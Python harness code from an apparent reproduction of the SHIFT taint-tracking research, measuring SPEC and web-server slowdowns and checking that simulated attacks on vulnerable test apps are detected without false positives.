          f"wire-taint traversal detected={wire['detected']}", flush=True)

    from repro.obs.metrics import collect_machine

    metrics_text = collect_machine(machine).render(
        "adaptivebench metrics — clean-heavy mix, adaptive arm")
    report = {
        "config": {
            "engine": engine,
            "scale": scale,
            "quick": quick,
            "speedup_gate": SPEEDUP_GATE,
            "python": sys.version.split()[0],
        },
        "clean_heavy": clean_entry,
        "taint_heavy": heavy_entry,
        "spec": spec_rows,
        "detection": {"attack_mix": mix, "wire_taint": wire},
    }
    return report, metrics_text


def gate(report: Dict) -> int:
    """Check the CI gate conditions; returns a process exit code."""
    failures = []
    clean = report["clean_heavy"]
    if clean["speedup"] < SPEEDUP_GATE:
        failures.append(
            f"clean-heavy speedup {clean['speedup']:.2f} < {SPEEDUP_GATE}")
    if not clean["identical_to_always_on"]:
        failures.append("adaptive run diverged from always-on")
    if clean["attacks_detected"] != clean["attacks_expected"]:
        failures.append(
            f"detected {clean['attacks_detected']}"
            f"/{clean['attacks_expected']} tainted traversals")
    if clean["uninstrumented"]["alerts"]:
        failures.append("uninstrumented arm alerted (traffic bug)")
    heavy = report["taint_heavy"]
    if not heavy["identical_to_always_on"]:
        failures.append("taint-heavy adaptive run diverged from always-on")
    if heavy["attacks_detected"] != heavy["attacks_expected"]:
        failures.append(
            f"taint-heavy mix raised {heavy['attacks_detected']} alert(s) "
            f"on benign tainted traffic")
    for row in report["spec"]:
        if not row["checksum_match"]:
            failures.append(
                f"{row['benchmark']} checksum diverged "
                f"(safe={row['safe_input']})")
    if not report["detection"]["attack_mix"]["exact"]:
        failures.append("adaptive attack mix was not exact")
    if not report["detection"]["wire_taint"]["detected"]:
        failures.append("wire-taint traversal not detected")
    for failure in failures:
        print(f"GATE FAIL: {failure}", file=sys.stderr)
    return 1 if failures else 0


def main(argv=None) -> int:
    # No --seed: the mixes and kernels here have no seeded randomness.
    parser = bench_parser("repro.harness.adaptivebench", __doc__,
                          output="BENCH_adaptive.json", seed=None,
                          scale="test")
    args = parser.parse_args(argv)

    report, metrics_text = run_suite(args.quick, args.engine, args.scale)
    out_path = write_report(report, args.output)
    metrics_path = out_path.parent / "metrics.txt"
    metrics_path.write_text(metrics_text + "\n")
    print(f"wrote {metrics_path}")
    if args.gate:
        return gate(report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
