"""Figure 7: SPEC-INT2000 slowdown under SHIFT.

Four bars per benchmark: byte/word-level tracking with the input data
tagged unsafe (tainted) or safe.  Paper results: byte-unsafe average
2.81X (range 1.32X-4.73X), word-unsafe average 2.27X (1.34X-3.80X);
gcc is the worst case, mcf the best.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence

from repro.apps.spec import BENCHMARKS
from repro.harness.formatting import format_table, geomean
from repro.harness.runners import PERF_OPTIONS, run_spec


@dataclass
class Figure7Row:
    """The four Figure 7 bars for one benchmark."""
    benchmark: str
    byte_unsafe: float
    byte_safe: float
    word_unsafe: float
    word_safe: float


@dataclass
class Figure7Result:
    """All Figure 7 rows for one scale."""
    rows: List[Figure7Row]
    scale: str

    def mean(self, field: str) -> float:
        """Geometric mean of one bar across benchmarks."""
        return geomean(getattr(row, field) for row in self.rows)


def run_figure7(scale: str = "ref",
                benchmarks: Optional[Sequence[str]] = None) -> Figure7Result:
    """Measure the Figure 7 slowdown matrix."""
    names = list(benchmarks) if benchmarks else list(BENCHMARKS)
    rows: List[Figure7Row] = []
    for name in names:
        bench = BENCHMARKS[name]
        values: Dict[str, float] = {}
        for safe in (False, True):
            base = run_spec(bench, PERF_OPTIONS["none"], scale, safe_input=safe)
            for level in ("byte", "word"):
                run = run_spec(bench, PERF_OPTIONS[level], scale, safe_input=safe)
                if run.checksum != base.checksum:
                    raise AssertionError(
                        f"{name}: {level} checksum diverged "
                        f"({run.checksum} != {base.checksum})"
                    )
                values[f"{level}_{'safe' if safe else 'unsafe'}"] = (
                    run.cycles / base.cycles
                )
        rows.append(Figure7Row(benchmark=name, **values))
    return Figure7Result(rows=rows, scale=scale)


def format_figure7(result: Figure7Result) -> str:
    """Render the Figure 7 table."""
    body = [
        [row.benchmark, row.byte_unsafe, row.byte_safe,
         row.word_unsafe, row.word_safe]
        for row in result.rows
    ]
    body.append([
        "geo.mean",
        result.mean("byte_unsafe"), result.mean("byte_safe"),
        result.mean("word_unsafe"), result.mean("word_safe"),
    ])
    return format_table(
        ["benchmark", "byte-unsafe", "byte-safe", "word-unsafe", "word-safe"],
        body,
        title=(f"Figure 7: SPEC slowdown vs uninstrumented (scale={result.scale}; "
               "paper: byte 2.81X avg, word 2.27X avg)"),
    )
