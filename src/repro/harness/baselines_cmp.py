"""Related-work comparison: SHIFT vs LIFT-style DBT vs emulation.

The paper positions SHIFT's 2.81X/2.27X against LIFT's 4.6X and
interpretation-based systems' much larger slowdowns (section 7.1).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence

from repro.apps.spec import BENCHMARKS
from repro.baselines.interp import InterpreterModel
from repro.harness.formatting import format_table, geomean
from repro.harness.runners import PERF_OPTIONS, run_spec


@dataclass
class BaselineRow:
    """Per-benchmark slowdowns of SHIFT vs the baselines."""
    benchmark: str
    shift_byte: float
    shift_word: float
    lift: float
    interpreter: float


@dataclass
class BaselineResult:
    """All comparison rows for one scale."""
    rows: List[BaselineRow]
    scale: str

    def mean(self, field: str) -> float:
        """Geometric mean of one column."""
        return geomean(getattr(r, field) for r in self.rows)


def run_baseline_comparison(scale: str = "ref",
                            benchmarks: Optional[Sequence[str]] = None,
                            interp_model: Optional[InterpreterModel] = None,
                            ) -> BaselineResult:
    """Measure SHIFT, LIFT-style and interpreter slowdowns."""
    model = interp_model or InterpreterModel()
    rows: List[BaselineRow] = []
    for name in (benchmarks or list(BENCHMARKS)):
        bench = BENCHMARKS[name]
        base = run_spec(bench, PERF_OPTIONS["none"], scale)
        values = {}
        for key, config in (("shift_byte", "byte"), ("shift_word", "word"),
                            ("lift", "lift")):
            run = run_spec(bench, PERF_OPTIONS[config], scale)
            if run.checksum != base.checksum:
                raise AssertionError(f"{name}/{config}: checksum diverged")
            values[key] = run.cycles / base.cycles
        values["interpreter"] = model.slowdown(base.counters)
        rows.append(BaselineRow(benchmark=name, **values))
    return BaselineResult(rows=rows, scale=scale)


def format_baselines(result: BaselineResult) -> str:
    """Render the related-work comparison table."""
    body = [
        [r.benchmark, r.shift_byte, r.shift_word, r.lift, r.interpreter]
        for r in result.rows
    ]
    body.append(["geo.mean", result.mean("shift_byte"), result.mean("shift_word"),
                 result.mean("lift"), result.mean("interpreter")])
    return format_table(
        ["benchmark", "SHIFT byte", "SHIFT word", "LIFT-style", "interpreter"],
        body,
        title=(f"Related-work comparison (scale={result.scale}; paper context: "
               "SHIFT 2.81X/2.27X, LIFT 4.6X, emulators far slower)"),
    )
