"""Table 2: security evaluation against real-world attack analogues.

For every vulnerable application the harness runs four configurations:

1. *unprotected attack* — compiled without SHIFT, policies off: the
   exploit must succeed (the vulnerability is real);
2. *protected benign* (byte and word level) — normal inputs must run
   with zero alerts (no false positives);
3. *protected attack* (byte and word level) — the exploit must be
   detected by the expected policy.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence

from repro.apps.vulnerable import TABLE2_APPS, VulnerableApp
from repro.compiler.instrument import ShiftOptions, UNINSTRUMENTED
from repro.core.shift import build_machine, compile_protected
from repro.cpu.faults import Fault
from repro.harness.formatting import format_table
from repro.runtime.machine import Machine
from repro.taint.engine import SecurityAlert
from repro.taint.policy import PolicyConfig

BYTE_STRICT = ShiftOptions(granularity=1, pointer_policy="strict")
WORD_STRICT = ShiftOptions(granularity=8, pointer_policy="strict")


def unprotected_config() -> PolicyConfig:
    """No taint sources, no policies: the stock vulnerable program."""
    config = PolicyConfig()
    for source in list(config.tainted_sources):
        config.tainted_sources[source] = False
    for policy in list(config.enabled):
        config.enabled[policy] = False
    return config


@dataclass
class AppEvaluation:
    """Outcome of the four runs for one application."""

    app: VulnerableApp
    attack_succeeds_unprotected: bool
    detected_byte: bool
    detected_word: bool
    alert_policy_byte: Optional[str]
    alert_policy_word: Optional[str]
    false_positive_byte: bool
    false_positive_word: bool

    @property
    def detected(self) -> bool:
        """True when both granularities detected the attack."""
        return self.detected_byte and self.detected_word

    @property
    def clean(self) -> bool:
        """True when no benign run raised an alert."""
        return not (self.false_positive_byte or self.false_positive_word)


def _run_scenario(app: VulnerableApp, options: ShiftOptions,
                  config: PolicyConfig, scenario) -> Machine:
    compiled = compile_protected(app.source, options)
    machine = build_machine(compiled, policy_config=config, engine_mode="record")
    resolved = scenario(machine) if callable(scenario) else scenario
    app.prepare(machine, resolved)
    try:
        machine.run(max_instructions=50_000_000)
    except SecurityAlert:
        pass
    except Fault:
        # In record mode the policy engine logs the alert and the
        # underlying NaT-consumption fault still terminates the guest
        # (the hardware fault is the detection mechanism for L1-L3).
        pass
    return machine


def evaluate_app(app: VulnerableApp) -> AppEvaluation:
    # 1. The attack against the unprotected program must succeed.
    """Run the four configurations for one vulnerable app."""
    unprotected = _run_scenario(app, UNINSTRUMENTED, unprotected_config(), app.attack)
    succeeded = bool(app.compromised and app.compromised(unprotected))

    results = {}
    for level, options in (("byte", BYTE_STRICT), ("word", WORD_STRICT)):
        benign = _run_scenario(app, options, app.policy_config(), app.benign)
        attack = _run_scenario(app, options, app.policy_config(), app.attack)
        results[level] = {
            "false_positive": bool(benign.alerts),
            "detected": bool(attack.alerts),
            "policy": attack.alerts[0].policy_id if attack.alerts else None,
        }
    return AppEvaluation(
        app=app,
        attack_succeeds_unprotected=succeeded,
        detected_byte=results["byte"]["detected"],
        detected_word=results["word"]["detected"],
        alert_policy_byte=results["byte"]["policy"],
        alert_policy_word=results["word"]["policy"],
        false_positive_byte=results["byte"]["false_positive"],
        false_positive_word=results["word"]["false_positive"],
    )


@dataclass
class Table2Result:
    """All Table 2 evaluations."""
    evaluations: List[AppEvaluation]

    @property
    def all_detected(self) -> bool:
        """True when every attack was detected."""
        return all(e.detected for e in self.evaluations)

    @property
    def no_false_positives(self) -> bool:
        """True when every benign run was clean."""
        return all(e.clean for e in self.evaluations)


def run_table2(apps: Sequence[VulnerableApp] = TABLE2_APPS) -> Table2Result:
    """Evaluate every Table 2 application."""
    return Table2Result(evaluations=[evaluate_app(app) for app in apps])


def format_table2(result: Table2Result) -> str:
    """Render the Table 2 table."""
    rows = []
    for ev in result.evaluations:
        app = ev.app
        policies = "+".join(app.detection_policies) or "low-level"
        rows.append([
            app.name, app.cve, app.language, app.attack_type,
            f"{policies} (hit: {ev.alert_policy_byte})",
            "yes" if ev.attack_succeeds_unprotected else "NO",
            "yes" if ev.detected else "NO",
            "none" if ev.clean else "FP!",
        ])
    table = format_table(
        ["program", "CVE", "lang", "attack", "policies", "exploit works",
         "detected?", "false pos."],
        rows,
        title="Table 2: security evaluation (paper: all detected, no false positives)",
    )
    summary = (
        f"\nall attacks detected: {result.all_detected}; "
        f"false positives: {not result.no_false_positives}"
    )
    return table + summary
