"""Shared experiment runners: compile caches and measured runs."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional, Sequence, Tuple

from repro.apps.guestvm import (GUESTVM_KV_SOURCE, GUESTVM_PING_SOURCE,
                                GUESTVM_TMPL_SOURCE)
from repro.apps.spec import BENCHMARKS, SpecBenchmark
from repro.apps.specstore import SPECSTORE_SOURCE
from repro.apps.webserver import (
    BACKEND_SOURCE,
    FLEET_PROXY_SOURCE,
    RESIL_WEBSERVER_SOURCE,
    WEBSERVER_SOURCE,
    make_request,
    make_site,
)
from repro.compiler.instrument import ShiftOptions
from repro.compiler.pipeline import CompiledProgram
from repro.core.shift import build_machine, compile_protected
from repro.cpu.perf import PerfCounters
from repro.runtime.machine import Machine
from repro.taint.policy import PolicyConfig

#: Instrumentation configurations used throughout the evaluation.
#: SPEC and server perf runs use the permissive pointer policy, exactly
#: because real programs index tables with input data (paper 3.2.2).
PERF_OPTIONS: Dict[str, ShiftOptions] = {
    "none": ShiftOptions(mode="none"),
    "byte": ShiftOptions(granularity=1, pointer_policy="permissive"),
    "word": ShiftOptions(granularity=8, pointer_policy="permissive"),
    "byte-set/clear": ShiftOptions(granularity=1, pointer_policy="permissive",
                                   enh_set_clear=True),
    "word-set/clear": ShiftOptions(granularity=8, pointer_policy="permissive",
                                   enh_set_clear=True),
    "byte-both": ShiftOptions(granularity=1, pointer_policy="permissive",
                              enh_set_clear=True, enh_nat_cmp=True),
    "word-both": ShiftOptions(granularity=8, pointer_policy="permissive",
                              enh_set_clear=True, enh_nat_cmp=True),
    "lift": ShiftOptions(mode="lift"),
}

_compile_cache: Dict[Tuple[str, str, ShiftOptions, bool], CompiledProgram] = {}


def compiled_spec(bench: SpecBenchmark, options: ShiftOptions,
                  scale: str = "ref",
                  adaptive: bool = False) -> CompiledProgram:
    """Compile a kernel once per (benchmark, options, scale)."""
    key = (bench.name, scale, options, adaptive)
    compiled = _compile_cache.get(key)
    if compiled is None:
        compiled = compile_protected(bench.source(scale), options,
                                     adaptive=adaptive)
        _compile_cache[key] = compiled
    return compiled


def spec_policy(safe_input: bool) -> PolicyConfig:
    """Policy for SPEC runs: disk data tainted unless the run is 'safe'."""
    config = PolicyConfig()
    config.tainted_sources["file"] = not safe_input
    return config


@dataclass
class MeasuredRun:
    """One measured execution."""

    label: str
    cycles: float
    compute_cycles: float
    io_cycles: float
    instructions: int
    exit_code: int
    checksum: int
    counters: PerfCounters


def run_spec(
    bench: SpecBenchmark,
    options: ShiftOptions,
    scale: str = "ref",
    safe_input: bool = False,
    label: str = "",
    engine: str = "predecoded",
    adaptive: str = "none",
) -> MeasuredRun:
    """Run one SPEC kernel under one configuration.

    ``adaptive`` is one of :data:`ADAPTIVE_MODES` (dual-version builds
    for the on-demand tracking experiments).
    """
    if adaptive not in ADAPTIVE_MODES:
        raise ValueError(f"unknown adaptive mode {adaptive!r}")
    compiled = compiled_spec(bench, options, scale,
                             adaptive=adaptive != "none")
    machine = build_machine(
        compiled,
        policy_config=spec_policy(safe_input),
        files={"/data": bench.make_input(scale)},
        engine=engine,
        adaptive_switching=adaptive in ("on", "speculate"),
        speculative=adaptive == "speculate",
    )
    exit_code = machine.run()
    counters = machine.counters
    return MeasuredRun(
        label=label or options.label,
        cycles=counters.cycles,
        compute_cycles=counters.compute_cycles,
        io_cycles=counters.io_cycles,
        instructions=counters.instructions,
        exit_code=exit_code,
        checksum=machine.read_global("result"),
        counters=counters,
    )


def spec_slowdown(bench: SpecBenchmark, options: ShiftOptions,
                  scale: str = "ref", safe_input: bool = False) -> float:
    """Slowdown of one configuration against the uninstrumented build."""
    base = run_spec(bench, PERF_OPTIONS["none"], scale, safe_input)
    run = run_spec(bench, options, scale, safe_input)
    if run.checksum != base.checksum:
        raise AssertionError(
            f"{bench.name}: checksum diverged under {options.label} "
            f"({run.checksum} != {base.checksum})"
        )
    return run.cycles / base.cycles


# -- web server (Figure 6) ------------------------------------------------


class ServerShortfallError(AssertionError):
    """The server answered fewer requests than the experiment sent.

    Carries the counts and any recorded security alerts so harnesses can
    report *why* the server fell short instead of a bare assertion text.
    """

    def __init__(self, served: int, requested: int, alerts=()) -> None:
        self.served = served
        self.requested = requested
        self.alerts = list(alerts)
        detail = ""
        if self.alerts:
            ids = ", ".join(a.policy_id for a in self.alerts)
            detail = f" (alerts: {ids})"
        super().__init__(
            f"server answered {served}/{requested} requests{detail}")


def webserver_policy() -> PolicyConfig:
    """Server policy: network tainted, static files trusted, H2 armed."""
    config = PolicyConfig()
    config.tainted_sources["network"] = True
    config.tainted_sources["file"] = False
    config.enable("H2")
    return config


def backend_policy() -> PolicyConfig:
    """Interior-tier policy: the frontend terminates the trust boundary.

    A backend behind a fleet frontend treats its own network ingress as
    *trusted* — taint arrives only via the wire-transported tag bits of
    :class:`~repro.fleet.wire.TaggedMessage` — while H2 still guards the
    document root.  This is what makes the two-tier experiment a proof:
    strip the tags and the same traversal bytes sail through.
    """
    config = PolicyConfig()
    config.tainted_sources["network"] = False
    config.tainted_sources["file"] = False
    config.enable("H2")
    return config


def guestvm_policy() -> PolicyConfig:
    """MiniScript VM policy: network tainted, H3 + H4 + H5 armed.

    The high-level Table-1 policies fire at the ``sql``, ``system`` and
    ``html_output`` use points *inside* the interpreter — the taint has
    to survive the VM's fetch/decode/dispatch loop, operand stack, and
    string arena to get there.
    """
    config = PolicyConfig()
    config.tainted_sources["network"] = True
    config.tainted_sources["file"] = False
    config.enable("H3")
    config.enable("H4")
    config.enable("H5")
    return config


def guest_backend_policy() -> PolicyConfig:
    """Interior-tier MiniScript policy: taint arrives only via wire tags.

    Mirrors :func:`backend_policy` for the guest VM: ingress is trusted,
    so detection behind a fleet frontend is load-bearing proof that
    :class:`~repro.fleet.wire.TaggedMessage` tag bits survived the hop.
    """
    config = PolicyConfig()
    config.tainted_sources["network"] = False
    config.tainted_sources["file"] = False
    config.enable("H3")
    config.enable("H4")
    config.enable("H5")
    return config


def specstore_policy() -> PolicyConfig:
    """Contained-taint store policy: interior-tier trust, H4 armed.

    Network ingress is trusted (requests are interior-tier traffic);
    taint enters only through the app's own ``taint_region`` trust
    boundary on stored values.  H4 catches tainted shell
    metacharacters at the ``system`` use point (``EXEC`` requests).
    """
    config = PolicyConfig()
    config.tainted_sources["network"] = False
    config.tainted_sources["file"] = False
    config.enable("H4")
    return config


#: The web applications the harnesses can build, by variant name.
WEB_VARIANTS: Dict[str, str] = {
    "standard": WEBSERVER_SOURCE,
    "resil": RESIL_WEBSERVER_SOURCE,
    "proxy": FLEET_PROXY_SOURCE,
    "backend": BACKEND_SOURCE,
    "guest-kv": GUESTVM_KV_SOURCE,
    "guest-tmpl": GUESTVM_TMPL_SOURCE,
    "guest-ping": GUESTVM_PING_SOURCE,
    "specstore": SPECSTORE_SOURCE,
}

#: ``adaptive=`` values accepted by the web build path: ``"none"`` is a
#: plain single-version build, ``"on"`` a dual-version build with the
#: mode controller switching, ``"track"`` a dual-version build pinned in
#: track mode (the differential baseline — same code layout as "on"),
#: ``"speculate"`` the controller plus the repro.spec speculation layer
#: (fast-path execution under taint-range guards).
ADAPTIVE_MODES = ("none", "on", "track", "speculate")

_web_cache: Dict[Tuple[str, ShiftOptions, bool], CompiledProgram] = {}


def compiled_webserver(options: ShiftOptions,
                       variant: str = "standard",
                       adaptive: bool = False) -> CompiledProgram:
    """Compile a web-app variant once per (variant, configuration)."""
    if variant not in WEB_VARIANTS:
        raise ValueError(f"unknown web variant {variant!r}")
    key = (variant, options, adaptive)
    compiled = _web_cache.get(key)
    if compiled is None:
        compiled = compile_protected(WEB_VARIANTS[variant], options,
                                     adaptive=adaptive)
        _web_cache[key] = compiled
    return compiled


def build_web_machine(
    variant: str = "standard",
    options: Optional[ShiftOptions] = None,
    *,
    policy_config: Optional[PolicyConfig] = None,
    sizes: Sequence[int] = (4,),
    files: Optional[Dict[str, bytes]] = None,
    engine: str = "predecoded",
    engine_mode: str = "raise",
    recover_watchdog: Optional[int] = None,
    machine_id: Optional[str] = None,
    net_capacity: Optional[int] = None,
    tracing: bool = False,
    trace_path: Optional[str] = None,
    adaptive: str = "none",
) -> Machine:
    """The single parameterized build path for every web-serving guest.

    Used by the Figure-6 runner, resilbench's attack mix, the fleet
    driver/fleetbench and adaptivebench alike, so machine setup lives in
    exactly one place.  ``files`` overrides the default document root
    built from ``sizes``; ``policy_config`` defaults to
    :func:`webserver_policy`; ``adaptive`` is one of
    :data:`ADAPTIVE_MODES`.
    """
    if adaptive not in ADAPTIVE_MODES:
        raise ValueError(f"unknown adaptive mode {adaptive!r}")
    compiled = compiled_webserver(
        options if options is not None else PERF_OPTIONS["byte"], variant,
        adaptive=adaptive != "none")
    return build_machine(
        compiled,
        policy_config=(policy_config if policy_config is not None
                       else webserver_policy()),
        files=files if files is not None else make_site(tuple(sizes)),
        engine=engine,
        engine_mode=engine_mode,
        recover_watchdog=recover_watchdog,
        machine_id=machine_id,
        net_capacity=net_capacity,
        tracing=tracing,
        trace_path=trace_path,
        adaptive_switching=adaptive in ("on", "speculate"),
        speculative=adaptive == "speculate",
    )


@dataclass
class WebRun:
    """One web-server measurement at a given file size."""

    label: str
    file_kb: int
    requests: int
    served: int
    total_cycles: float
    io_cycles: float

    @property
    def latency_cycles(self) -> float:
        """Average simulated cycles per request."""
        return self.total_cycles / max(self.requests, 1)

    @property
    def throughput(self) -> float:
        """Requests per billion cycles (arbitrary but consistent units)."""
        return self.requests / (self.total_cycles / 1e9)


def run_webserver(options: ShiftOptions, file_kb: int, requests: int = 50,
                  engine: str = "predecoded") -> WebRun:
    """Serve ``requests`` identical requests for one file size."""
    machine = build_web_machine(
        "standard", options, sizes=(file_kb,), engine=engine)
    for _ in range(requests):
        machine.net.add_request(make_request(file_kb))
    served = machine.run(max_instructions=1_000_000_000)
    if served != requests:
        raise ServerShortfallError(served, requests, machine.alerts)
    return WebRun(
        label=options.label,
        file_kb=file_kb,
        requests=requests,
        served=served,
        total_cycles=machine.counters.cycles,
        io_cycles=machine.counters.io_cycles,
    )


def all_benchmarks() -> Dict[str, SpecBenchmark]:
    """Copy of the SPEC kernel registry."""
    return dict(BENCHMARKS)
