"""Shared experiment runners: compile caches and measured runs."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Tuple

from repro.apps.spec import BENCHMARKS, SpecBenchmark
from repro.apps.webserver import WEBSERVER_SOURCE, make_request, make_site
from repro.compiler.instrument import ShiftOptions
from repro.compiler.pipeline import CompiledProgram
from repro.core.shift import build_machine, compile_protected
from repro.cpu.perf import PerfCounters
from repro.taint.policy import PolicyConfig

#: Instrumentation configurations used throughout the evaluation.
#: SPEC and server perf runs use the permissive pointer policy, exactly
#: because real programs index tables with input data (paper 3.2.2).
PERF_OPTIONS: Dict[str, ShiftOptions] = {
    "none": ShiftOptions(mode="none"),
    "byte": ShiftOptions(granularity=1, pointer_policy="permissive"),
    "word": ShiftOptions(granularity=8, pointer_policy="permissive"),
    "byte-set/clear": ShiftOptions(granularity=1, pointer_policy="permissive",
                                   enh_set_clear=True),
    "word-set/clear": ShiftOptions(granularity=8, pointer_policy="permissive",
                                   enh_set_clear=True),
    "byte-both": ShiftOptions(granularity=1, pointer_policy="permissive",
                              enh_set_clear=True, enh_nat_cmp=True),
    "word-both": ShiftOptions(granularity=8, pointer_policy="permissive",
                              enh_set_clear=True, enh_nat_cmp=True),
    "lift": ShiftOptions(mode="lift"),
}

_compile_cache: Dict[Tuple[str, str, ShiftOptions], CompiledProgram] = {}


def compiled_spec(bench: SpecBenchmark, options: ShiftOptions,
                  scale: str = "ref") -> CompiledProgram:
    """Compile a kernel once per (benchmark, options, scale)."""
    key = (bench.name, scale, options)
    compiled = _compile_cache.get(key)
    if compiled is None:
        compiled = compile_protected(bench.source(scale), options)
        _compile_cache[key] = compiled
    return compiled


def spec_policy(safe_input: bool) -> PolicyConfig:
    """Policy for SPEC runs: disk data tainted unless the run is 'safe'."""
    config = PolicyConfig()
    config.tainted_sources["file"] = not safe_input
    return config


@dataclass
class MeasuredRun:
    """One measured execution."""

    label: str
    cycles: float
    compute_cycles: float
    io_cycles: float
    instructions: int
    exit_code: int
    checksum: int
    counters: PerfCounters


def run_spec(
    bench: SpecBenchmark,
    options: ShiftOptions,
    scale: str = "ref",
    safe_input: bool = False,
    label: str = "",
    engine: str = "predecoded",
) -> MeasuredRun:
    """Run one SPEC kernel under one configuration."""
    compiled = compiled_spec(bench, options, scale)
    machine = build_machine(
        compiled,
        policy_config=spec_policy(safe_input),
        files={"/data": bench.make_input(scale)},
        engine=engine,
    )
    exit_code = machine.run()
    counters = machine.counters
    return MeasuredRun(
        label=label or options.label,
        cycles=counters.cycles,
        compute_cycles=counters.compute_cycles,
        io_cycles=counters.io_cycles,
        instructions=counters.instructions,
        exit_code=exit_code,
        checksum=machine.read_global("result"),
        counters=counters,
    )


def spec_slowdown(bench: SpecBenchmark, options: ShiftOptions,
                  scale: str = "ref", safe_input: bool = False) -> float:
    """Slowdown of one configuration against the uninstrumented build."""
    base = run_spec(bench, PERF_OPTIONS["none"], scale, safe_input)
    run = run_spec(bench, options, scale, safe_input)
    if run.checksum != base.checksum:
        raise AssertionError(
            f"{bench.name}: checksum diverged under {options.label} "
            f"({run.checksum} != {base.checksum})"
        )
    return run.cycles / base.cycles


# -- web server (Figure 6) ------------------------------------------------


class ServerShortfallError(AssertionError):
    """The server answered fewer requests than the experiment sent.

    Carries the counts and any recorded security alerts so harnesses can
    report *why* the server fell short instead of a bare assertion text.
    """

    def __init__(self, served: int, requested: int, alerts=()) -> None:
        self.served = served
        self.requested = requested
        self.alerts = list(alerts)
        detail = ""
        if self.alerts:
            ids = ", ".join(a.policy_id for a in self.alerts)
            detail = f" (alerts: {ids})"
        super().__init__(
            f"server answered {served}/{requested} requests{detail}")


def webserver_policy() -> PolicyConfig:
    """Server policy: network tainted, static files trusted, H2 armed."""
    config = PolicyConfig()
    config.tainted_sources["network"] = True
    config.tainted_sources["file"] = False
    config.enable("H2")
    return config


_web_cache: Dict[ShiftOptions, CompiledProgram] = {}


def compiled_webserver(options: ShiftOptions) -> CompiledProgram:
    """Compile the web server once per configuration."""
    compiled = _web_cache.get(options)
    if compiled is None:
        compiled = compile_protected(WEBSERVER_SOURCE, options)
        _web_cache[options] = compiled
    return compiled


@dataclass
class WebRun:
    """One web-server measurement at a given file size."""

    label: str
    file_kb: int
    requests: int
    served: int
    total_cycles: float
    io_cycles: float

    @property
    def latency_cycles(self) -> float:
        """Average simulated cycles per request."""
        return self.total_cycles / max(self.requests, 1)

    @property
    def throughput(self) -> float:
        """Requests per billion cycles (arbitrary but consistent units)."""
        return self.requests / (self.total_cycles / 1e9)


def run_webserver(options: ShiftOptions, file_kb: int, requests: int = 50,
                  engine: str = "predecoded") -> WebRun:
    """Serve ``requests`` identical requests for one file size."""
    compiled = compiled_webserver(options)
    machine = build_machine(
        compiled,
        policy_config=webserver_policy(),
        files=make_site((file_kb,)),
        engine=engine,
    )
    for _ in range(requests):
        machine.net.add_request(make_request(file_kb))
    served = machine.run(max_instructions=1_000_000_000)
    if served != requests:
        raise ServerShortfallError(served, requests, machine.alerts)
    return WebRun(
        label=options.label,
        file_kb=file_kb,
        requests=requests,
        served=served,
        total_cycles=machine.counters.cycles,
        io_cycles=machine.counters.io_cycles,
    )


def all_benchmarks() -> Dict[str, SpecBenchmark]:
    """Copy of the SPEC kernel registry."""
    return dict(BENCHMARKS)
