"""Serving benchmark: latency vs offered load, autoscaling, detection.

Five experiments, one report (``BENCH_serve.json``):

1. **Latency/throughput curve**: the same heavy-tailed open-loop
   workload shape swept across offered loads below and above the
   fixed fleet's capacity knee (multipliers of the measured per-worker
   service rate).  Each point reports p50/p95/p99 arrival-to-response
   latency, throughput, and peak queue depth — the curve closed-loop
   fleetbench cannot see.
2. **Autoscaling at the knee**: the above-knee load re-served with the
   queue-depth autoscaler active.  The gate requires p99 to stay
   bounded (within :data:`P99_BOUND` mean service times, and below the
   fixed fleet's p99 at the same load) while the worker count actually
   grew.
3. **Attack mix under scaling**: a burst-then-taper workload laced
   with traversal/overflow attack sessions against the vulnerable
   server variant, forcing scale-up during the burst and drain during
   the taper.  Every attack must be quarantined (measured on real
   recover-mode Machines), zero false alerts on clean traffic, and
   both a scale-up and a drained retire must occur.
4. **Reproducibility**: the autoscaled run repeated at the same seed
   must produce a bit-identical result digest — the simulated serving
   loop is deterministic end to end.
5. **Wall-clock mode** (skipped with ``--quick``): the same workload
   shape on real OS processes via :mod:`repro.serve.wallclock`,
   reported without gating.

::

    PYTHONPATH=src python -m repro.harness.servebench --quick --gate

``--gate`` exits non-zero unless every condition above holds — the CI
``serve-smoke`` job's contract.
"""

from __future__ import annotations

import sys
from typing import Dict, List

from repro.apps.webserver import make_request
from repro.compiler.instrument import ShiftOptions
from repro.fleet.driver import FleetConfig
from repro.harness.benchcli import bench_parser, write_report
from repro.serve import (
    AutoscalerConfig,
    LoadConfig,
    LoadPhase,
    ServeSim,
    ServiceModel,
    describe,
    generate,
    run_wallclock,
)

#: Offered-load multipliers of fixed-fleet capacity for the curve
#: (>= 4 points; the knee is the first one past 1.0).
LOAD_MULTIPLIERS = (0.5, 0.75, 0.9, 1.1, 1.35)

#: Baseline worker count for the curve and the autoscaled arm.
BASE_WORKERS = 2

#: Autoscaled p99 must stay within this many mean service times.  The
#: relative condition (autoscaled p99 below the fixed fleet's at the
#: same load) is the strong gate; this absolute bound only catches a
#: pathological blowup the comparison could miss.
P99_BOUND = 25.0

#: File-size mix served by the curve workloads (KB, with weights).
CURVE_SIZES = (4, 8, 16)
CURVE_WEIGHTS = (0.7, 0.2, 0.1)

#: Attack-mix server runs strict byte granularity so the planted
#: overflow is caught (same configuration as fleetbench's mix).
ATTACK_OPTIONS = ShiftOptions(granularity=1)
ATTACK_SIZES = (4, 8)
ATTACK_WEIGHTS = (0.8, 0.2)

#: Per-request instruction budget for recover-mode workers.
SERVE_WATCHDOG = 2_000_000


def _curve_config(engine: str) -> FleetConfig:
    return FleetConfig(sizes=CURVE_SIZES, engine=engine,
                       recover_watchdog=SERVE_WATCHDOG)


def _attack_config(engine: str) -> FleetConfig:
    return FleetConfig(variant="resil", options=ATTACK_OPTIONS,
                       sizes=ATTACK_SIZES, engine=engine,
                       recover_watchdog=SERVE_WATCHDOG)


def _mean_service(service: ServiceModel, sizes, weights) -> float:
    """Weighted mean measured budget over the clean payload mix."""
    total = sum(weights)
    return sum(service.cost(make_request(kb)).cycles * w
               for kb, w in zip(sizes, weights)) / total


def _workload(seed: int, offered: float, requests: int, *,
              sizes, weights, attack_fraction: float = 0.0,
              taper: float = 0.0) -> List:
    """One open-loop workload of ~``requests`` arrivals at ``offered``.

